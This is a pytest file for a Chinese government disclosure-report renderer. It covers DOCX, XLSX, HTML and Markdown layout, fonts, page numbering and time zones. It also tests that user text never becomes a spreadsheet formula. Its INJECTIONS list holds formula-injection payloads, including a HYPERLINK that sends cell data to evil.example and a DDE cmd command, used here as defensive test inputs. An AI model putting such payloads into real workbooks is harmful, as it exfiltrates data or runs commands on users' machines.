"""The report ready to publish as it comes out (issue 13, DESIGN §15), read back from each file:
the DOCX's table properties, fonts and title; the XLSX's print setup and text cells (issue 11
item 4: never a formula); the HTML's print stylesheet; Markdown without padding columns; and every
time in the office's time zone."""

from __future__ import annotations

import datetime as dt
import io
import re
import unicodedata
from typing import Any

import pytest
import time_machine
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Pt
from openpyxl import Workbook, load_workbook

from config.fonts import FONTS
from models.db import session_scope
from reports.closing import close_year
from reports.layout import TITLE_WORDS, text_em
from reports.render import render
from reports.render_docx import CELL_PAD_PT, balanced_lines, table_layout
from reports.render_xlsx import FIRST_ROW, SHEETS
from reports.xlsx_text import put_text
from tests.reports.helpers import report
from tests.reports.test_render import sample_report
from tests.support import TESTER, D, organ_with_staff, receive, step
from workflow.errors import RuleViolation

# what a spreadsheet program would run as a formula, or a DDE command, if written as typed
INJECTIONS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "-1", "@SUM(1)", "=1+1", "#N/A",
              "=cmd|' /C calc'!A0", "\t=1")  # fmt: skip


# --- XLSX: text is text ---------------------------------------------------------------------------
@pytest.mark.parametrize("text", INJECTIONS)
def test_put_text_writes_a_string_cell_that_reads_back_as_typed(text: str) -> None:
    wb = Workbook()
    put_text(wb.active, 1, 1, text)
    out = io.BytesIO()
    wb.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active.cell(1, 1)
    assert (cell.data_type, cell.value) == ("s", text)


def test_put_text_drops_characters_a_workbook_cannot_hold_instead_of_failing() -> None:
    wb = Workbook()
    assert put_text(wb.active, 1, 1, "HX\x00-\x071").value == "HX-1"


def text_cells(data: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


@pytest.mark.parametrize("payload", INJECTIONS)
@pytest.mark.parametrize("internal", [False, True])
def test_every_text_the_workbook_holds_is_a_string_cell_never_a_formula(payload: str, internal: bool) -> None:
    """A case ref (the annex's oldest cases), an organ's name and a check's cases are user text."""
    rep = sample_report(organ_name=payload)
    rep["timeliness"]["oldest_pending"][0]["ref"] = payload
    rep["checks"] = [{"name": "balance", "ok": False, "detail": payload, "title": "每列", "cases": [payload]}]
    cells = text_cells(render(rep, "xlsx", internal=internal))
    assert cells and {c.data_type for c in cells} == {"s"}
    values = [c.value for c in cells]
    assert f"{payload}2023年政府信息公开工作年度报告" in values  # the title, as typed
    if internal:
        assert payload in values  # the oldest case's ref


def test_numbers_stay_numbers_in_the_workbook() -> None:
    ws = load_workbook(io.BytesIO(render(sample_report(), "xlsx")))[SHEETS["section3"]]
    assert ws.cell(FIRST_ROW + 3, 4).value == 0 and ws.cell(FIRST_ROW + 3, 4).data_type == "n"


# --- XLSX: print setup ----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def workbook() -> Any:
    return load_workbook(io.BytesIO(render(sample_report(), "xlsx")))


@pytest.mark.parametrize(("sheet", "titles", "freeze"), [
    ("section3", "$4:$6", "D7"), ("section4", "$4:$6", "A7"), ("section2", "$4:$5", "B6")
])  # fmt: skip
def test_each_sheet_prints_on_a4_fit_to_width_with_its_header_rows_repeated_and_frozen(
    workbook: Any, sheet: str, titles: str, freeze: str
) -> None:
    ws = workbook[SHEETS[sheet]]
    assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)
    assert ws.print_title_rows == titles
    assert ws.freeze_panes == freeze


def display_width(text: str) -> int:
    """Columns of a spreadsheet's default font a text takes: a Chinese character two."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WFA" else 1 for ch in text)


def test_column_widths_fit_every_section3_label_on_two_lines(workbook: Any) -> None:
    ws = workbook[SHEETS["section3"]]
    widths = [ws.column_dimensions[chr(ord("A") + c)].width for c in range(10)]
    spans = {(m.min_row, m.min_col): m.max_col - m.min_col + 1 for m in ws.merged_cells.ranges}
    rows_of = {(m.min_row, m.min_col): m.max_row - m.min_row + 1 for m in ws.merged_cells.ranges}
    for row in ws.iter_rows(min_row=FIRST_ROW + 3):
        for c in row:
            if not isinstance(c.value, str) or rows_of.get((c.row, c.column), 1) >= 10:
                continue  # 三、本年度办理结果 is written down its column
            room = sum(widths[c.column - 1 : c.column - 1 + spans.get((c.row, c.column), 1)])
            assert display_width(c.value) <= 2 * room, (c.value, room)
    assert (
        widths[2]
        >= display_width("2.申请人逾期未按收费通知要求缴纳费用、行政机关不再处理其政府信息公开申请") / 2
    )


# --- DOCX -----------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def docx_doc() -> Any:
    return Document(io.BytesIO(render(sample_report(), "docx")))


def row_props(tr: Any) -> set[str]:
    trpr = tr.trPr
    return set() if trpr is None else {child.tag.split("}")[1] for child in trpr}


@pytest.mark.parametrize(("index", "header_rows"), [(1, 3), (2, 3)])
def test_docx_header_rows_repeat_and_no_row_splits_across_pages(
    docx_doc: Any, index: int, header_rows: int
) -> None:
    rows = docx_doc.tables[index]._tbl.tr_lst
    assert all("cantSplit" in row_props(tr) for tr in rows)
    assert ["tblHeader" in row_props(tr) for tr in rows] == [True] * header_rows + [False] * (
        len(rows) - header_rows
    )


def keeps(row: Any) -> set[bool | None]:
    return {p.paragraph_format.keep_with_next for cell in row.cells for p in cell.paragraphs}


def test_docx_keeps_each_block_of_section2_on_one_page_and_its_heading_with_the_first(docx_doc: Any) -> None:
    rows = docx_doc.tables[0].rows
    starts = [i for i, row in enumerate(rows) if row.cells[0].text.startswith("第二十条")]
    assert starts == [0, 4, 7, 11]  # the four items of Art. 20
    for i, row in enumerate(rows):
        last_of_block = i + 1 in starts or i == len(rows) - 1
        assert keeps(row) == ({None} if last_of_block else {True}), i
    heading = next(p for p in docx_doc.paragraphs if p.text == "二、主动公开政府信息情况")
    assert heading.paragraph_format.keep_with_next or heading.style.paragraph_format.keep_with_next
    # a block's own header rows are its header: none repeats on the next page
    assert not any("tblHeader" in row_props(tr) for tr in docx_doc.tables[0]._tbl.tr_lst)


def test_docx_forces_no_page_break_and_keeps_section3s_header_with_its_first_row(docx_doc: Any) -> None:
    assert not docx_doc.element.body.findall(".//" + qn("w:pageBreakBefore"))
    assert not [br for br in docx_doc.element.body.iter(qn("w:br")) if br.get(qn("w:type")) == "page"]
    rows = docx_doc.tables[1].rows
    assert [keeps(row) == {True} for row in rows[:4]] == [True, True, True, False]


HEADINGS = ("一、总体情况", "二、主动公开政府信息情况", "三、收到和处理政府信息公开申请情况",
            "四、政府信息公开行政复议、行政诉讼情况", "五、存在的主要问题及改进情况",
            "六、其他需要报告的事项")  # fmt: skip


def effective(run: Any, paragraph: Any) -> tuple[Any, Any]:
    """A run's size and East Asian font as Word resolves them: the run's own, else its style's."""
    size, font = (
        run.font.size,
        run._element.rPr.rFonts.get(qn("w:eastAsia"))
        if run._element.rPr is not None and run._element.rPr.rFonts is not None
        else None,
    )
    style = paragraph.style
    while style is not None and (size is None or font is None):
        size = size or style.font.size
        rpr = style.element.rPr
        if font is None and rpr is not None and rpr.rFonts is not None:
            font = rpr.rFonts.get(qn("w:eastAsia"))
        style = style.base_style
    return size, font


def test_docx_all_six_section_headings_share_one_style_in_heiti_sanhao(docx_doc: Any) -> None:
    headings = [p for p in docx_doc.paragraphs if p.text in HEADINGS]
    assert [p.text for p in headings] == list(HEADINGS)
    assert len({p.style.name for p in headings}) == 1 and headings[0].style.name != "Normal"
    looks = {effective(r, p) for p in headings for r in p.runs}
    assert looks == {(Pt(16), "黑体")}


def footer_xml(footer: Any) -> str:
    return footer._element.xml


@pytest.mark.parametrize("internal", [False, True])
def test_docx_every_page_has_its_number_at_the_foot_in_the_national_style(internal: bool) -> None:
    """GB/T 9704: 「— 1 —」, 4号 宋体 numerals, odd pages on the right, even on the left."""
    doc = Document(io.BytesIO(render(sample_report(), "docx", internal=internal)))
    assert doc.settings.odd_and_even_pages_header_footer
    section = doc.sections[0]
    for footer, align in (
        (section.footer, WD_ALIGN_PARAGRAPH.RIGHT),
        (section.even_page_footer, WD_ALIGN_PARAGRAPH.LEFT),
    ):
        assert not footer.is_linked_to_previous
        p = footer.paragraphs[0]
        assert p.alignment == align
        instr = "".join(t.text for t in p._element.iter(qn("w:instrText")))
        assert instr.strip() == "PAGE"
        assert [c.get(qn("w:fldCharType")) for c in p._element.iter(qn("w:fldChar"))] == [
            "begin",
            "separate",
            "end",
        ]
        assert p.text.startswith("— ") and p.text.endswith(" —")
        assert {r.font.size for r in p.runs} == {Pt(14)}
        assert {r._element.rPr.rFonts.get(qn("w:ascii")) for r in p.runs} == {"宋体"}


def test_docx_column_widths_let_no_section3_label_wrap_beyond_two_lines(docx_doc: Any) -> None:
    """Measured with the widths written in the file: every label's characters fit in two lines."""
    table = docx_doc.tables[1]._tbl
    grid = [int(c.get(qn("w:w"))) / 20 for c in table.tblGrid.gridCol_lst]
    size = float(table.find(".//" + qn("w:sz")).get(qn("w:val"))) / 2
    assert size >= 8.5 and sum(grid) <= 15.6 / 2.54 * 72 + 1  # legible, and within the text width
    for tr in table.tr_lst[3:]:
        for tc in tr.tc_lst:
            # a run per line where the renderer broke a label itself (after its enumerator)
            lines = ["".join(t.text or "" for t in r.iter(qn("w:t"))) for r in tc.iter(qn("w:r"))]
            text = "".join(lines)
            if not text or text.isdigit() or text == "三、本年度办理结果":  # numbers; down the column
                continue
            room = tc.width.pt - CELL_PAD_PT
            if len(lines) > 1:
                assert all(text_em(line) * size <= room + 0.01 for line in lines), (lines, room)
            else:
                assert text_em(text) * size <= 2 * room + 0.01, (text, room)


def test_docx_tables_fit_the_pages_text_width_at_a_legible_size() -> None:
    from reports.layout import section2_grid, section3_grid, section4_grid

    rep = sample_report()
    for grid in (
        section2_grid(rep["section2"]),
        section3_grid(rep["section3"]),
        section4_grid(rep["section4"]),
    ):
        size, widths = table_layout(grid)
        assert size >= 9 and sum(widths) <= 15.6 / 2.54 * 72 + 0.01


def test_docx_names_the_government_fonts_with_their_fallbacks(docx_doc: Any) -> None:
    fonts_part = next(p for p in docx_doc.part.package.parts if p.partname == "/word/fontTable.xml")
    table = fonts_part.blob.decode()
    for f in FONTS:
        assert re.search(rf'<w:font w:name="{f.name}"><w:altName w:val="{f.alt}"/>', table), f.name
    used = {r.get(qn("w:eastAsia")) for r in docx_doc.element.body.iter(qn("w:rFonts"))}
    assert used == {"方正小标宋简体", "黑体", "仿宋_GB2312"}
    langs = {e.get(qn("w:eastAsia")) for e in docx_doc.element.body.iter(qn("w:lang"))}
    assert langs == {"zh-CN"}


@pytest.mark.parametrize("organ", ["阿城区红星镇人民政府", "东区", "哈尔滨市阿城区人民政府办公室", "某" * 30])
def test_the_title_is_on_balanced_lines_never_broken_inside_a_word(organ: str) -> None:
    parts = (f"{organ}2023年", *TITLE_WORDS)
    lines = balanced_lines(parts, 20)
    if lines is None:  # an organ name longer than a line: the renderer makes the title smaller
        assert text_em(parts[0]) > 20
        return
    assert "".join(lines) == "".join(parts)
    assert all(text_em(line) <= 20 for line in lines)
    joins = {sum(len(p) for p in parts[:i]) for i in range(len(parts) + 1)}
    assert len(lines[0]) in joins  # the break falls between two words
    if len(lines) == 2:  # as even as the words allow
        splits = [(text_em("".join(parts[:i])), text_em("".join(parts[i:]))) for i in range(1, len(parts))]
        best = min(abs(a - b) for a, b in splits if max(a, b) <= 20)
        assert abs(text_em(lines[0]) - text_em(lines[1])) == best


def test_docx_title_breaks_after_the_year_not_inside_gongzuo(docx_doc: Any) -> None:
    title = docx_doc.paragraphs[0]
    assert title.text == "阿城区红星镇人民政府2023年\n政府信息公开工作年度报告"


# --- HTML and Markdown ----------------------------------------------------------------------------
def test_html_prints_a4_with_the_header_rows_repeated() -> None:
    page = render(sample_report(), "html").decode()
    assert "@media print" in page and "size: A4" in page
    section3 = page[page.index('<table class="section3">') :]
    section3 = section3[: section3.index("</table>")]
    head = section3[section3.index("<thead>") : section3.index("</thead>")]
    assert head.count("<tr>") == 3 and "一、本年新收" not in head
    assert '<section class="section3">\n<h2 class="section3">' in page


def test_markdown_section2_has_no_padding_columns() -> None:
    md = render(sample_report(), "md").decode()
    section2 = md[md.index("## 二、") : md.index("## 三、")]
    for line in section2.splitlines():
        if line.startswith("|"):
            cells = [c.strip() for c in line.strip("|").split("|")]
            assert "" not in cells, line
    assert "| 行政许可 | 7 |" in section2 and "| 行政事业性收费 | 12.3456 |" in section2


# --- times in the office's time zone --------------------------------------------------------------
@pytest.mark.usefixtures("any_db")
def test_a_report_sealed_at_0238_on_1_december_in_shanghai_says_1_december() -> None:
    organ_with_staff()
    receive(D(2025, 3, 3), ref="T-1")
    step("T-1", "answer", on=D(2025, 3, 20), outcome="disclosed")
    sealed_at = dt.datetime(2026, 11, 30, 18, 38, tzinfo=dt.UTC)  # 2026-12-01 02:38 in Shanghai
    with time_machine.travel(sealed_at, tick=False), session_scope() as s:
        close_year(s, "east", 2025, actor=TESTER)
    with time_machine.travel(sealed_at, tick=False):
        md = render(report("east", 2025), "md", internal=True).decode()
    assert "| 封存时间 | 2026-12-01 02:38（Asia/Shanghai） |" in md
    assert "| 生成时间 | 2026-12-01 02:38（Asia/Shanghai） |" in md
    assert "11-30" not in md
    with session_scope() as s, pytest.raises(RuleViolation, match=r"sealed by tester on 2026-12-01 02:38"):
        close_year(s, "east", 2025, actor=TESTER)


def test_the_internal_records_checks_are_in_chinese_whether_they_pass_or_fail() -> None:
    from reports.checks import NoEvidence, Previous, run_checks
    from tests.reports.test_checks import GOOD3, GOOD4

    bad3 = {k: list(v) for k, v in GOOD3.items()}
    bad3["new"][1] += 1
    bad4 = {k: dict(v) for k, v in GOOD4.items()}
    bad4["litigation"]["total"] = 1
    previous = Previous(2, dt.datetime(2023, 1, 20, tzinfo=dt.UTC), [9] * 7)
    for s3, s4 in ((GOOD3, GOOD4), (bad3, bad4)):
        checks = [
            c.to_json() for c in run_checks(s3, s4, year=2024, previous=previous, evidence=NoEvidence())
        ]
        md = render(sample_report(checks=checks), "md", internal=True).decode()
        table = md[md.index("## 二、数据校验") : md.index("## 三、办理时效")]
        assert not re.search(r"[A-Za-z_]{3,}", table), table  # no code, no English
        assert "| 通过 |" in table and "| 未通过 |" in table  # the carry-over fails in both
